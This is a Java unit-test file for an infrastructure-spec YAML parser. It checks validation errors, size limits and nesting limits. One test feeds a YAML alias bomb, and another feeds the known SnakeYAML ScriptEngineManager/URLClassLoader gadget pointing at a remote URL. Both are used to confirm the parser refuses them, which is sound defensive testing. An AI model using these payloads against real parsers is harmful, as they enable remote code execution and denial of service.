package app.lockstep.domain.config;

import java.util.List;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class InfrastructureSpecTest {

	@Test
	void readsTheDrupalSpec() {
		SpecParse parse = InfrastructureSpec.parse(SpecFixtures.DRUPAL_YAML);
		assertThat(parse.errors()).isEmpty();
		assertThat(parse.valid()).isTrue();
		assertThat(parse.spec()).isEqualTo(SpecFixtures.drupal());
		assertThat(parse.spec().services().keySet()).containsExactly("db", "cache");
		assertThat(parse.spec().applications().get("drupal").relationships().keySet()).containsExactly("database",
				"redis");
	}

	@Test
	void readsTheDjangoSpecWithQuotesFlowMappingsCommentsAndBlankLines() {
		SpecParse parse = InfrastructureSpec.parse(SpecFixtures.DJANGO_YAML);
		assertThat(parse.errors()).isEmpty();
		assertThat(parse.spec()).isEqualTo(SpecFixtures.django());
		assertThat(parse.spec().applications().get("api").mounts().keySet()).containsExactly("media", "/tmp/cache");
	}

	@Test
	void blankTextOrOnlyCommentsIsAnEmptySpec() {
		for (String text : List.of("", "  \n\t\n", "# nothing yet\n", "---\n", "applications:\nservices:\n")) {
			SpecParse parse = InfrastructureSpec.parse(text);
			assertThat(parse.valid()).as(text).isTrue();
			assertThat(parse.spec()).as(text).isEqualTo(Spec.EMPTY);
		}
	}

	@Test
	void anUnknownTopLevelKeyIsReportedOnItsLine() {
		assertThat(errors("""
				applications:
				  app:
				    type: php:8.3
				routes:
				  "https://{default}/": {type: upstream}
				""")).containsExactly(
				new LineError(4, 1, "Unknown key \"routes\" at the top level; expected applications or services"));
	}

	@Test
	void unknownKeysInApplicationsServicesAndMountsNameTheAllowedKeys() {
		assertThat(errors("""
				applications:
				  app:
				    type: php:8.3
				    web:
				      locations: {}
				    mounts:
				      files:
				        source: storage
				        size: 10
				services:
				  db:
				    type: postgresql:16
				    size: 1024
				""")).containsExactly(
				new LineError(4, 5,
						"Unknown key \"web\" in application \"app\"; expected type, relationships or mounts"),
				new LineError(9, 9, "Unknown key \"size\" in mount \"files\"; expected source or source_path"),
				new LineError(13, 5, "Unknown key \"size\" in service \"db\"; expected type or disk"));
	}

	@Test
	void aTypeMustBeNameColonVersion() {
		assertThat(errors("""
				applications:
				  app:
				    type: php
				services:
				  db:
				    type: postgresql-16
				""")).containsExactly(new LineError(3, 11, "Type \"php\" must be runtime:version, such as php:8.3"),
				new LineError(6, 11, "Type \"postgresql-16\" must be engine:version, such as postgresql:16"));
	}

	@Test
	void anUnknownRuntimeOrEngineListsTheKnownOnes() {
		assertThat(errors("""
				applications:
				  app:
				    type: perl:5.36
				services:
				  db:
				    type: oracle:19
				""")).containsExactly(
				new LineError(3, 11,
						"Unknown runtime \"perl\"; known runtimes: php, python, nodejs, ruby, java, golang, dotnet"),
				new LineError(6, 11, "Unknown engine \"oracle\"; known engines: postgresql, mariadb, mysql, redis, "
						+ "valkey, opensearch, rabbitmq, memcached, solr"));
	}

	@Test
	void anUnsupportedVersionListsTheSupportedOnes() {
		assertThat(errors("""
				applications:
				  app:
				    type: php:7.4
				services:
				  db:
				    type: mariadb:10.4
				""")).containsExactly(
				new LineError(3, 11, "PHP 7.4 is not supported; supported versions of php: 8.1, 8.2, 8.3, 8.4"),
				new LineError(6, 11,
						"MariaDB 10.4 is not supported; supported versions of mariadb: 10.6, 10.11, 11.4"));
	}

	@Test
	void aTypeIsRequired() {
		assertThat(errors("""
				applications:
				  app:
				    relationships: {}
				  worker:
				services:
				  db:
				    type:
				""")).containsExactly(new LineError(2, 3, "Application \"app\" needs a type, such as php:8.3"),
				new LineError(4, 3, "Application \"worker\" needs a type, such as php:8.3"),
				new LineError(7, 5, "Service \"db\" needs a type, such as postgresql:16"));
	}

	@Test
	void aRelationshipMustNameAServiceDefinedUnderServices() {
		assertThat(errors("""
				applications:
				  drupal:
				    type: php:8.3
				    relationships:
				      database: db:mysql
				      redis: cache:redis
				services:
				  cache:
				    type: redis:7.2
				""")).containsExactly(new LineError(5, 17,
				"Relationship \"database\" names service \"db\", which is not defined under services"));
	}

	@Test
	void servicesListedAfterTheApplicationsStillCount() {
		assertThat(errors("""
				services:
				  db: {type: postgresql:16}
				applications:
				  api:
				    type: python:3.12
				    relationships: {database: "db:postgresql"}
				""")).isEmpty();
	}

	@Test
	void aRelationshipMustBeServiceColonEndpoint() {
		assertThat(errors("""
				applications:
				  drupal:
				    type: php:8.3
				    relationships:
				      database: db
				      "bad name!": db:mysql
				      cache: [db, mysql]
				services:
				  db:
				    type: mariadb:10.11
				""")).containsExactly(
				new LineError(5, 17, "Relationship \"database\" must be service:endpoint, such as db:mysql"),
				new LineError(6, 7, "Relationship name \"bad name!\" must use letters, digits, dashes and underscores"),
				new LineError(7, 14, "\"cache\" takes a single value, not a list or mapping"),
				new LineError(7, 14, "Relationship \"cache\" must be service:endpoint, such as db:mysql"));
	}

	@Test
	void aMountNeedsAKnownSource() {
		assertThat(errors("""
				applications:
				  app:
				    type: php:8.3
				    mounts:
				      web/files: {source: shared, source_path: files}
				      private: {source_path: private}
				      tmp: local:tmp
				      ../outside: {source: local}
				      cache: {source: tmp, source_path: " "}
				""")).containsExactly(
				new LineError(5, 27, "Mount source \"shared\" must be one of local, service, storage, tmp, instance"),
				new LineError(6, 7, "Mount \"private\" needs a source: one of local, service, storage, tmp, instance"),
				new LineError(7, 12, "Mount \"tmp\" must be a mapping with a source and, optionally, a source_path"),
				new LineError(8, 7, "Mount \"../outside\" must stay inside the application: no .."),
				new LineError(9, 41, "source_path must not be blank; leave it out instead"));
	}

	@Test
	void duplicateNamesAreReportedWhereTheyAreRepeated() {
		assertThat(errors("""
				applications:
				  app:
				    type: php:8.3
				    relationships:
				      database: db:mysql
				      database: db:mysql
				  app:
				    type: php:8.2
				services:
				  db:
				    type: mariadb:10.11
				  db:
				    type: mariadb:11.4
				""")).containsExactly(new LineError(6, 7, "Duplicate name \"database\""),
				new LineError(7, 3, "Duplicate name \"app\""), new LineError(12, 3, "Duplicate name \"db\""));
	}

	@Test
	void anApplicationAndAServiceCannotShareAName() {
		assertThat(errors("""
				applications:
				  search:
				    type: java:21
				services:
				  search:
				    type: opensearch:2
				""")).containsExactly(
				new LineError(2, 3, "Duplicate name \"search\": an application and a service cannot share a name"));
	}

	@Test
	void namesUseLowercaseLettersDigitsDashesAndUnderscores() {
		assertThat(errors("""
				applications:
				  My App:
				    type: php:8.3
				services:
				  db.main:
				    type: mysql:8.0
				  cache_1-a:
				    type: valkey:8.0
				""")).containsExactly(
				new LineError(2, 3,
						"Application name \"My App\" must use lowercase letters, digits, dashes and underscores"),
				new LineError(5, 3,
						"Service name \"db.main\" must use lowercase letters, digits, dashes and underscores"));
	}

	@Test
	void aDiskIsAWholeNumberOfMegabytes() {
		assertThat(errors("""
				services:
				  db:
				    type: postgresql:16
				    disk: 2GB
				  cache:
				    type: redis:7.2
				    disk: 0
				  search:
				    type: solr:9
				    disk: "512"
				""")).containsExactly(new LineError(4, 11, "Disk \"2GB\" must be a size in MB, such as 1024"),
				new LineError(7, 11, "Disk \"0\" must be a size in MB, such as 1024"));
		assertThat(InfrastructureSpec.parse("services:\n  s:\n    type: solr:9\n    disk: \"512\"\n").spec().services())
			.containsValue(new Service("s", "solr", "9", "512"));
	}

	@Test
	void sectionsOfTheWrongShapeAreReported() {
		assertThat(errors("""
				- applications
				""")).containsExactly(
				new LineError(1, 1, "The spec must be a mapping with applications and services at the top level"));
		assertThat(errors("""
				applications:
				  - app
				services: postgresql:16
				""")).containsExactly(new LineError(2, 3, "applications must map application names to their settings"),
				new LineError(3, 11, "services must map service names to their settings"));
		assertThat(errors("""
				applications:
				  app: php:8.3
				  web:
				    type: php:8.3
				    relationships: db:mysql
				    mounts: [files]
				""")).containsExactly(
				new LineError(2, 8, "Application \"app\" must be a mapping with a type, such as type: php:8.3"),
				new LineError(5, 20,
						"relationships of \"web\" must map names to service:endpoint, such as database: db:mysql"),
				new LineError(6, 13, "mounts of \"web\" must map paths to a source, such as "
						+ "web/files: {source: storage, source_path: files}"));
	}

	@Test
	void everyProblemIsReportedAtOnceSortedByLine() {
		List<LineError> errors = errors("""
				services:
				  db:
				    type: postgresql:99
				applications:
				  app:
				    type: cobol:85
				    relationships:
				      database: nowhere:pgsql
				extra: true
				""");
		assertThat(errors).extracting(LineError::line).containsExactly(3, 6, 8, 9);
	}

	@Test
	void aSyntaxErrorGivesItsLineAndColumn() {
		assertThat(errors("""
				applications:
				  app:
				    type: php:8.3
				   relationships: {}
				""")).containsExactly(new LineError(4, 4,
				"YAML syntax error: expected <block end>, but found '<block mapping start>' (check the indentation of this line)"));
		assertThat(errors("""
				applications:
				  app:
				    type: php: 8.3
				""")).containsExactly(new LineError(3, 14,
				"YAML syntax error: mapping values are not allowed here (check the indentation, or quote a value that contains \": \")"));
		assertThat(errors("applications:\n\tapp:\n"))
			.containsExactly(new LineError(2, 1, "YAML syntax error: a tab cannot indent YAML; indent with spaces"));
		assertThat(errors("services:\n  db: {type: postgresql:16\n")).singleElement()
			.satisfies((error) -> assertThat(error.line()).isEqualTo(3))
			.satisfies((error) -> assertThat(error.message()).startsWith("YAML syntax error: "));
	}

	@Test
	void onlyOneDocumentIsRead() {
		assertThat(errors("""
				services:
				  db: {type: postgresql:16}
				---
				services: {}
				""")).containsExactly(
				new LineError(4, 1, "Write one YAML document: remove the second \"---\" and what follows"));
	}

	@Test
	void textOverTheSizeLimitIsRefusedCountingUtf8Bytes() {
		String header = "services:\n  db: {type: postgresql:16}\n#";
		String fits = header + "x".repeat(InfrastructureSpec.MAX_BYTES - header.length());
		assertThat(InfrastructureSpec.parse(fits).valid()).isTrue();
		assertThat(errors(fits + "x"))
			.containsExactly(LineError.general("The spec is 65537 bytes; keep it to 65536 bytes (64 KiB) or less"));
		String accented = header + "é".repeat((InfrastructureSpec.MAX_BYTES - header.length()) / 2 + 1);
		assertThat(accented.length()).isLessThan(InfrastructureSpec.MAX_BYTES);
		assertThat(errors(accented)).singleElement().satisfies((error) -> assertThat(error.line()).isZero());
	}

	@Test
	void aliasesAreLimitedSoAnAliasBombIsRefused() {
		StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
		for (char c = 'b'; c <= 'j'; c++) {
			char previous = (char) (c - 1);
			bomb.append(c)
				.append(": &")
				.append(c)
				.append(" [")
				.append(String.join(", ", java.util.Collections.nCopies(9, "*" + previous)))
				.append("]\n");
		}
		assertThat(errors(bomb.toString())).containsExactly(LineError.general(
				"The spec refers to lists or mappings by alias (*name) more than 10 times; write them out instead"));
	}

	@Test
	void deepNestingIsRefused() {
		assertThat(errors("applications: " + "[".repeat(30) + "]".repeat(30)))
			.containsExactly(LineError.general("The spec is nested more deeply than 20 levels"));
	}

	@Test
	void aFewAliasesAreFine() {
		SpecParse parse = InfrastructureSpec.parse("""
				applications:
				  web: &php {type: php:8.3}
				  worker: *php
				""");
		assertThat(parse.errors()).isEmpty();
		assertThat(parse.spec().applications()).containsOnlyKeys("web", "worker");
	}

	@Test
	void tagsNeverInstantiateAnything() {
		assertThat(
				errors("""
						applications: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
						"""))
			.containsExactly(
					new LineError(1, 15, "YAML syntax error: tags such as !!java.lang.Object are not allowed"));
		assertThat(errors("""
				applications: !custom
				  app: {type: php:8.3}
				""")).isEmpty();
	}

	private static List<LineError> errors(String yaml) {
		SpecParse parse = InfrastructureSpec.parse(yaml);
		assertThat(parse.valid()).isEqualTo(parse.errors().isEmpty());
		assertThat(parse.spec() == null).isEqualTo(!parse.valid());
		return parse.errors();
	}

}
